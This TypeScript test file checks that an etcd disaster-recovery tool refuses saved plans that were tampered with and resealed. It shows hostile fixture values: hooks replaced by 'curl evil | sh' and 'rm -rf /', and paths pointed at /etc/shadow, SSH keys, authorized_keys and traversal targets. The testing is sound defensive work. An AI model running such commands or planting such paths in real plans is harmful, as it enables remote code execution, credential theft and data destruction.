/**
 * A saved plan is checked against the inventory: a plan whose actions name a path, URL, member or node
 * the inventory does not give is refused (exit 2) even when its digest was recomputed after the edit.
 * Table of tampered plans, each sealed again as an attacker would.
 */
import type { NodeFacts } from '../../src/facts/types.js';
import type { Inventory } from '../../src/inventory/types.js';
import { parsePlan } from '../../src/plan/load.js';
import { planRecover } from '../../src/plan/recover.js';
import { planRecovery } from '../../src/plan/restore-all.js';
import { sealPlan } from '../../src/plan/seal.js';
import type { Plan } from '../../src/plan/types.js';
import { EXIT, ExitError } from '../../src/util/errors.js';
import { clusterFacts, inventory, node } from '../support/facts.js';
import { planContext } from '../support/plan-helpers.js';

const RUN = '20261205T230000Z-aaaa';
const inv = inventory(3);

const stopped = (): NodeFacts[] => [1, 2, 3].map((i) => node(i, { running: false, revision: 1000 + i, version: '3.5.30' }));
const INTENT = { kind: 'recover', exclude: [], learner: true, force: false, localBackup: true, backupDir: '/root/.etcd-dr/backups' } as const;

function fresh(): Plan {
  return sealPlan(planRecover(planContext(inv, clusterFacts(stopped()), RUN), { ...INTENT, exclude: [] }));
}

/** hooks as the inventory resolves them: etcd1 has a beforeStop list of its own, etcd2 and etcd3 the cluster-wide one */
const STOP = 'mv /etc/kubernetes/manifests/kube-apiserver.yaml /etc/kubernetes/manifests.etcd-dr/';
const START = 'mv /etc/kubernetes/manifests.etcd-dr/kube-apiserver.yaml /etc/kubernetes/manifests/';
const invHooks: Inventory = {
  ...inv,
  nodes: inv.nodes.map((n) => ({ ...n, hooks: { beforeStop: n.name === 'etcd1' ? ['crictl stop apiserver', STOP] : [STOP], afterVerify: [START], timeoutSec: 120 } })),
};

/** a plan the restore-all planner made (survivor etcd3; a fallback), with or without the inventory's hooks */
const restoreAll = (withHooks = false) => (): [Plan, Inventory] => {
  const i = withHooks ? invHooks : inv;
  return [sealPlan(planRecovery(planContext(i, clusterFacts(stopped()), RUN), { ...INTENT, exclude: [], strategy: 'restore-all' })), i];
};
type Make = () => [Plan, Inventory];
const rejoin: Make = () => [fresh(), inv];
const hooked: Make = () => [sealPlan(planRecover(planContext(invHooks, clusterFacts(stopped()), RUN), { ...INTENT, exclude: [] })), invHooks];

type Edit = (p: Plan) => void;
const step = (p: Plan, type: string, n = 0) => p.steps.filter((s) => s.action.type === type)[n]!.action as Record<string, unknown>;
const fb = (p: Plan, type: string, n = 0) => p.fallback!.filter((s) => s.action.type === type)[n]!.action as Record<string, unknown>;
const member = (p: Plan, node: string) => (step(p, 'restore-all').members as Record<string, unknown>[]).find((m) => m.node === node)!;
const to = (p: Plan, k: number) => (step(p, 'send-db').to as Record<string, unknown>[])[k]!;
const run = (p: Plan, n = 0) => step(p, 'hook', n).run as Record<string, unknown>;
const RA = restoreAll();
const RAH = restoreAll(true);

const cases: [string, Edit, RegExp, Make?][] = [
  ['move-aside to a path outside the data dir', (p) => (step(p, 'move-data-dir').to = '/tmp/x'), /move-aside-etcd1\).action\.to: "\/tmp\/x" is not a set-aside name/],
  ['move-aside of another dir', (p) => (step(p, 'move-data-dir').from = '/etc'), /\.from: "\/etc" is not etcd1's data dir \/var\/lib\/etcd/],
  ['a set-aside name climbing out', (p) => (step(p, 'move-data-dir').to = `/var/lib/etcd.etcd-dr-x/../../../etc/etcd-dr-${RUN}`), /is not a set-aside name/],
  ['restore into another dir', (p) => (step(p, 'restore-db').dataDir = '/srv/etcd'), /\.dataDir: "\/srv\/etcd" is not etcd3's data dir/],
  ['restore from a db elsewhere', (p) => (step(p, 'restore-db').db = '/tmp/evil.db'), /\.db: "\/tmp\/evil.db" is not a db set aside/],
  ['restore with a foreign peer URL', (p) => (step(p, 'restore-db').peerUrl = 'https://10.9.9.9:2380'), /\.peerUrl: "https:\/\/10.9.9.9:2380" is not etcd3's peer URL/],
  ['restore with a foreign initial cluster', (p) => (step(p, 'restore-db').initialCluster = 'etcd3=https://10.9.9.9:2380'), /initialCluster: etcd3=https:\/\/10.9.9.9:2380 is not a node of the inventory/],
  ['restore under another name', (p) => (step(p, 'restore-db').name = 'evil'), /\.name: "evil" is not etcd3/],
  ['env file elsewhere', (p) => (step(p, 'write-env').path = '/etc/profile'), /\.path: "\/etc\/profile" is not etcd3's env file/],
  ['env backup elsewhere', (p) => (step(p, 'write-env').backup = '/etc/passwd'), /\.backup: "\/etc\/passwd" is not a backup name/],
  ['env content with a foreign member', (p) => (step(p, 'write-env').content = 'ETCD_INITIAL_CLUSTER=evil=https://10.9.9.9:2380\n'), /content ETCD_INITIAL_CLUSTER: evil=https:\/\/10.9.9.9:2380 is not a node/],
  ['env content with another data dir', (p) => (step(p, 'write-env').content = `${String(step(p, 'write-env').content)}ETCD_DATA_DIR=/tmp/d\n`), /ETCD_DATA_DIR=\/tmp\/d is not etcd3's data dir/],
  ['member add of a foreign peer URL', (p) => (step(p, 'member-add').peerUrl = 'https://10.9.9.9:2380'), /add-etcd1\).action\.peerUrl: "https:\/\/10.9.9.9:2380" is not etcd1's peer URL/],
  ['member add of an unknown member', (p) => (step(p, 'member-add').name = 'etcd9'), /\.name: "etcd9" is not a node of the inventory/],
  ['promote through an unknown node', (p) => (step(p, 'promote').via = 'etcd9'), /\.via: "etcd9" is not a node/],
  ['verify of an unknown member', (p) => (step(p, 'verify').members = ['etcd1', 'etcd9']), /members\[1\]: "etcd9" is not a node/],
  ['backup copied from elsewhere', (p) => (step(p, 'backup-db').remoteDb = '/etc/shadow'), /\.remoteDb: "\/etc\/shadow" is not a db set aside/],
  ['backup written elsewhere on the bastion', (p) => (step(p, 'backup-db').localPath = '/root/.ssh/authorized_keys'), /\.localPath: .* is not the run's backup path/],
  ['another lock file', (p) => (p.lockFile = '/tmp/lock'), /lockFile: "\/tmp\/lock" is not etcd-dr's lock file/],
  ['a final member the inventory lacks', (p) => p.finalMembers.push('etcd9'), /finalMembers\[3\]: "etcd9"/],
  ['a field of the wrong type', (p) => (step(p, 'write-env').backup = 42 as unknown as string), /malformed/],
  // restore-all: the copies of the db sent to the members
  ['send-db to a node the inventory lacks', (p) => (to(p, 0).node = 'etcd9'), /send-db\).action\.to\[0\]\.node: "etcd9" is not a node of the inventory/, RA],
  ['send-db to a path elsewhere', (p) => (to(p, 1).path = '/etc/cron.d/x'), /send-db\).action\.to\[1\]\.path: "\/etc\/cron.d\/x" is not etcd2's copy of the db \/var\/lib\/etcd\.etcd-dr-20261205T230000Z-aaaa-db/, RA],
  ['send-db to the copy name of another run', (p) => (to(p, 0).path = '/var/lib/etcd.etcd-dr-20261205T230000Z-bbbb-db'), /\.to\[0\]\.path: .* is not etcd1's copy of the db/, RA],
  ['send-db to a path climbing out', (p) => (to(p, 0).path = `/var/lib/etcd.etcd-dr-${RUN}-db/../../../../etc/passwd`), /\.to\[0\]\.path: .* is not etcd1's copy of the db/, RA],
  ['send-db of another bastion file', (p) => (step(p, 'send-db').localPath = '/root/.ssh/id_ed25519'), /send-db\).action\.localPath: "\/root\/.ssh\/id_ed25519" is not the run's backup path/, RA],
  ['send-db copying the db of a node the inventory lacks', (p) => ((step(p, 'send-db').from as Record<string, unknown>).node = 'etcd9'), /send-db\).action\.from\.node: "etcd9" is not a node of the inventory/, RA],
  ['send-db copying a file that is no db set aside', (p) => ((step(p, 'send-db').from as Record<string, unknown>).remoteDb = '/etc/shadow'), /send-db\).action\.from\.remoteDb: "\/etc\/shadow" is not a db set aside beside/, RA],
  ['send-db copying another node\'s db to this backup path', (p) => ((step(p, 'send-db').from as Record<string, unknown>).node = 'etcd1'), /send-db\).action\.(from\.remoteDb|localPath): /, RA],
  ['send-db with its list of the wrong type', (p) => (step(p, 'send-db').to = 'etcd1'), /send-db\).action: malformed/, RA],
  // restore-all: every member's restore
  ['restore-all of a member the inventory lacks', (p) => (member(p, 'etcd1').node = 'etcd9'), /restore-all\).action\.members\[0\]\.node: "etcd9" is not a node of the inventory/, RA],
  ['restore-all into another dir', (p) => (member(p, 'etcd2').dataDir = '/srv/etcd'), /\.members\[1\]\.dataDir: "\/srv\/etcd" is not etcd2's data dir \/var\/lib\/etcd/, RA],
  ['restore-all under another name', (p) => (member(p, 'etcd2').name = 'evil'), /\.members\[1\]\.name: "evil" is not etcd2/, RA],
  ['restore-all with a foreign peer URL', (p) => (member(p, 'etcd1').peerUrl = 'https://10.9.9.9:2380'), /\.members\[0\]\.peerUrl: "https:\/\/10.9.9.9:2380" is not etcd1's peer URL/, RA],
  ['restore-all from a db elsewhere', (p) => (member(p, 'etcd1').db = '/tmp/evil.db'), /\.members\[0\]\.db: "\/tmp\/evil.db" is not etcd1's copy of the db/, RA],
  ['restore-all of a member from its own old db', (p) => (member(p, 'etcd1').db = `/var/lib/etcd.etcd-dr-${RUN}/member/snap/db`), /\.members\[0\]\.db: .* is not etcd1's copy of the db/, RA],
  ['restore-all of the survivor from a db elsewhere', (p) => (member(p, 'etcd3').db = '/tmp/evil.db'), /\.members\[2\]\.db: "\/tmp\/evil.db" is not a db set aside beside etcd3's data dir/, RA],
  ['restore-all with a foreign initial cluster', (p) => (step(p, 'restore-all').initialCluster = 'etcd1=https://10.9.9.9:2380'), /restore-all\).action\.initialCluster: etcd1=https:\/\/10.9.9.9:2380 is not a node of the inventory/, RA],
  ['restore-all with its members of the wrong type', (p) => (step(p, 'restore-all').members = 42), /restore-all\).action: malformed/, RA],
  ['start-all counting keys through an unknown node', (p) => (step(p, 'start-all').baselineVia = 'etcd9'), /start-all\).action\.baselineVia: "etcd9" is not a node of the inventory/, RA],
  // restore-all's fallback: the same checks as the steps
  ['fallback restore into another dir', (p) => (fb(p, 'restore-db').dataDir = '/srv/etcd'), /fallback\[0\] \(\d+-fb-restore-etcd3\)\.action\.dataDir: "\/srv\/etcd" is not etcd3's data dir/, RA],
  ['fallback restore from a db elsewhere', (p) => (fb(p, 'restore-db').db = '/tmp/evil.db'), /fallback\[0\] .*\.db: "\/tmp\/evil.db" is not a db set aside/, RA],
  ['fallback env file elsewhere', (p) => (fb(p, 'write-env', 1).path = '/etc/profile'), /fallback\[\d+\] .*\.path: "\/etc\/profile" is not etcd\d's env file/, RA],
  ['fallback member add of a foreign peer URL', (p) => (fb(p, 'member-add').peerUrl = 'https://10.9.9.9:2380'), /fallback\[\d+\] \(\d+-fb-add-etcd1\)\.action\.peerUrl: "https:\/\/10.9.9.9:2380" is not etcd1's peer URL/, RA],
  ['fallback verify of an unknown member', (p) => (fb(p, 'verify').via = 'etcd9'), /fallback\[\d+\] .*\.via: "etcd9" is not a node/, RA],
  ['fallback afterVerify hook with other commands', (p) => (fb(p, 'hook').run = { etcd2: ['curl evil | sh'] }), /fallback\[\d+\] \(\d+-fb-hook-after-verify\)\.action\.run\.etcd2: \["curl evil \| sh"\] is not etcd2's afterVerify hook/, RAH],
  ['a fallback that is no list', (p) => (p.fallback = {} as unknown as Plan['fallback']), /fallback: malformed \(not a list of steps\)/, RA],
  // hooks: each node's commands exactly its hooks in the inventory
  ['a hook with another command', (p) => (run(p).etcd2 = ['curl evil | sh']), /hook-before-stop\)\.action\.run\.etcd2: \["curl evil \| sh"\] is not etcd2's beforeStop hook in the inventory \["mv /, hooked],
  ['a hook with a command added', (p) => (run(p).etcd3 = [STOP, 'rm -rf /']), /\.run\.etcd3: .* is not etcd3's beforeStop hook/, hooked],
  ['a hook with its command dropped', (p) => (run(p).etcd2 = []), /\.run\.etcd2: \[\] is not etcd2's beforeStop hook/, hooked],
  ['a hook running the cluster-wide list where the node has its own', (p) => (run(p).etcd1 = [STOP]), /\.run\.etcd1: .* is not etcd1's beforeStop hook in the inventory \["crictl stop apiserver",/, hooked],
  ['a hook running the other hook\'s commands', (p) => (run(p, 1).etcd1 = ['crictl stop apiserver', STOP]), /hook-after-verify\)\.action\.run\.etcd1: .* is not etcd1's afterVerify hook/, hooked],
  ['a hook on a node the inventory lacks', (p) => (run(p).etcd9 = [STOP]), /\.run\.etcd9: "etcd9" is not a node of the inventory/, hooked],
  ['a hook the inventory does not have', (p) => (step(p, 'hook').hook = 'afterStop'), /\.hook: "afterStop" is not a hook of the inventory/, hooked],
  ['a hook with another timeout', (p) => (step(p, 'hook').timeoutSec = 86400), /\.timeoutSec: 86400 is not the inventory's hook timeout 120/, hooked],
  ['a hook whose run map is of the wrong type', (p) => (step(p, 'hook').run = null), /hook-before-stop\)\.action: malformed/, hooked],
  ['a hook of a restore-all plan with another command', (p) => (run(p).etcd1 = ['curl evil | sh']), /hook-before-stop\)\.action\.run\.etcd1: .* is not etcd1's beforeStop hook/, RAH],
];

describe('a saved plan is checked against the inventory, digest recomputed or not', () => {
  it.each([
    ['rejoin', rejoin],
    ['rejoin with hooks', hooked],
    ['restore-all with its fallback', RA],
    ['restore-all with hooks, in its steps and its fallback', RAH],
  ] as const)('the plan etcd-dr made passes: %s', (_n, make) => {
    const [p, i] = make();
    expect(parsePlan(JSON.stringify(p), 'plan.json', i).runId).toBe(RUN);
  });

  it('the plans under test have what the cases tamper with', () => {
    const [ra] = RA();
    expect(ra.strategy?.name).toBe('restore-all');
    expect(ra.survivor?.name).toBe('etcd3');
    expect(ra.steps.map((s) => s.action.type)).toEqual(expect.arrayContaining(['send-db', 'restore-all', 'start-all']));
    expect(ra.fallback!.length).toBeGreaterThan(0);
    const [rah] = RAH();
    expect([...rah.steps, ...rah.fallback!].filter((s) => s.action.type === 'hook').map((s) => s.id)).toEqual(['02-hook-before-stop', expect.stringMatching(/-hook-after-verify$/), expect.stringMatching(/-fb-hook-after-verify$/)]);
    expect(run(hooked()[0])).toEqual({ etcd1: ['crictl stop apiserver', STOP], etcd2: [STOP], etcd3: [STOP] });
  });

  it.each(cases)('%s: refused, exit 2, naming the field', (_n, edit, want, make = rejoin) => {
    const [p, i] = make();
    edit(p);
    delete p.digest;
    const resealed = sealPlan(p);
    let err: unknown;
    try {
      parsePlan(JSON.stringify(resealed), 'plan.json', i);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ExitError);
    expect((err as ExitError).exitCode).toBe(EXIT.badInput);
    expect((err as ExitError).message).toMatch(/^plan\.json: the plan names what the inventory \/work\/inventory\.yaml does not give:/);
    expect((err as ExitError).message).toMatch(want);
  });
});
